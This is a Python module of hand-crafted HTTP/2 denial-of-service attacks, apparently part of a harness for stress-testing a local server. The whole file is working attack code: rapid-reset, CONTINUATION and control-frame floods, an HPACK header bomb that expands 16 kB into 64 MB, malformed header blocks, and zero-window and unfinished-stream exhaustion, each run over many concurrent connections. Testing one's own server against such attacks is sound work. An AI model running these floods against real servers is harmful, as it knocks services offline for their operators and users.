"""Attacks over HTTP/2, by prior knowledge, with frames made by hand. Called by attack."""

from __future__ import annotations

import asyncio
import struct
from collections.abc import Awaitable, Callable

from attack_http1 import Act, many, until_closed

CLIENTS = 16
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
# GET / over http, from the static table; `:authority: attack`, kept nowhere.
BLOCK = b"\x82\x84\x86\x01\x06attack"
MAX_STREAM = 2**31 - 1


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def headers(stream: int, block: bytes = BLOCK, flags: int = END_STREAM | END_HEADERS) -> bytes:
    return frame(HEADERS, flags, stream, block)


def path(text: bytes) -> bytes:
    """The same block for another path."""
    return b"\x82\x86\x04" + bytes([len(text)]) + text + b"\x01\x06attack"


def begin(*settings: tuple[int, int]) -> bytes:
    return PREFACE + frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *setting) for setting in settings))


async def is_spoken(port: int) -> bool:
    """Whether HTTP/2 is spoken by prior knowledge."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    try:
        writer.write(begin())
        async with asyncio.timeout(5):
            head = await reader.readexactly(9)
    except (EOFError, OSError):
        return False
    finally:
        writer.close()
    return head[3] == SETTINGS


def flood(make: Callable[[int], bytes], start: bytes = begin(), clients: int = CLIENTS) -> Callable[[int], Awaitable[None]]:
    """Sends what `make` makes of the numbers of streams, as long as the connection lives."""

    async def act(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        swallow = asyncio.create_task(until_closed(reader))
        try:
            writer.write(start)
            stream = 1
            while not swallow.done() and stream < MAX_STREAM - 200:
                writer.write(b"".join(make(stream + 2 * number) for number in range(100)))
                stream += 200
                await writer.drain()
                await asyncio.sleep(0)
        finally:
            swallow.cancel()

    return on_all(act, clients)


def on_all(act: Act, clients: int = CLIENTS) -> Callable[[int], Awaitable[None]]:
    async def run(port: int) -> None:
        await many(port, act, clients)

    return run


async def _continuation(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    swallow = asyncio.create_task(until_closed(reader))
    try:
        writer.write(begin() + headers(1, BLOCK, END_STREAM))
        while not swallow.done():
            # Literals without a name in the table, never ending.
            writer.write(frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 2000) * 10)
            await writer.drain()
            await asyncio.sleep(0)
    finally:
        swallow.cancel()


async def _zero_window(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Asks for what is big in 100 streams and opens no window."""
    swallow = asyncio.create_task(until_closed(reader))
    try:
        writer.write(begin((4, 0)) + b"".join(headers(1 + 2 * number, path(b"/big")) for number in range(100)))
        while not swallow.done():
            await asyncio.sleep(1)
            writer.write(frame(PING, 0, 0, bytes(8)))
            await writer.drain()
    finally:
        swallow.cancel()


async def _unfinished(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Begins bodies in 100 streams and ends none."""
    swallow = asyncio.create_task(until_closed(reader))
    block = b"\x83\x84\x86\x01\x06attack"
    try:
        writer.write(begin() + b"".join(
            headers(1 + 2 * number, block, END_HEADERS) + frame(DATA, 0, 1 + 2 * number, b"x") for number in range(100)))
        while not swallow.done():
            await asyncio.sleep(1)
            writer.write(frame(PING, 0, 0, bytes(8)))
            await writer.drain()
    finally:
        swallow.cancel()


ATTACKS: dict[str, Callable[[int], Awaitable[None]]] = {
    "h2-rapid-reset": flood(lambda stream: headers(stream) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))),
    "h2-continuation": on_all(_continuation),
    "h2-settings": flood(lambda stream: frame(SETTINGS, 0, 0, struct.pack(">HI", 1, stream % 4096))),
    "h2-ping": flood(lambda stream: frame(PING, 0, 0, bytes(8))),
    "h2-priority": flood(lambda stream: frame(PRIORITY, 0, stream, struct.pack(">IB", 0, 1))),
    "h2-window-updates": flood(lambda stream: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))),
    "h2-empty-data": flood(
        lambda stream: headers(1, b"\x83\x84\x86\x01\x06attack", END_HEADERS) if stream == 1 else frame(DATA, 0, 1)),
    # An entry of the table of 4000 bytes, then references to it: 16 kB that stand for 64 MB.
    "h2-header-bomb": flood(
        lambda stream: headers(stream, BLOCK + b"\x40\x01a\x7f\xa1\x1e" + b"b" * 4000 + b"\xbe" * 12_000)),
    "h2-malformed-blocks": flood(lambda stream: headers(stream, b"\x82" * 16_000)),
    "h2-own-resets": flood(lambda stream: headers(stream, b"\x82\x84")),
    # Nothing is wrong with these: as many at a time as `queue_length` lets wait, beyond which 503 is right (see overload).
    "h2-requests": flood(headers, clients=7),
    "h2-zero-window": on_all(_zero_window),
    "h2-unfinished": on_all(_unfinished),
}
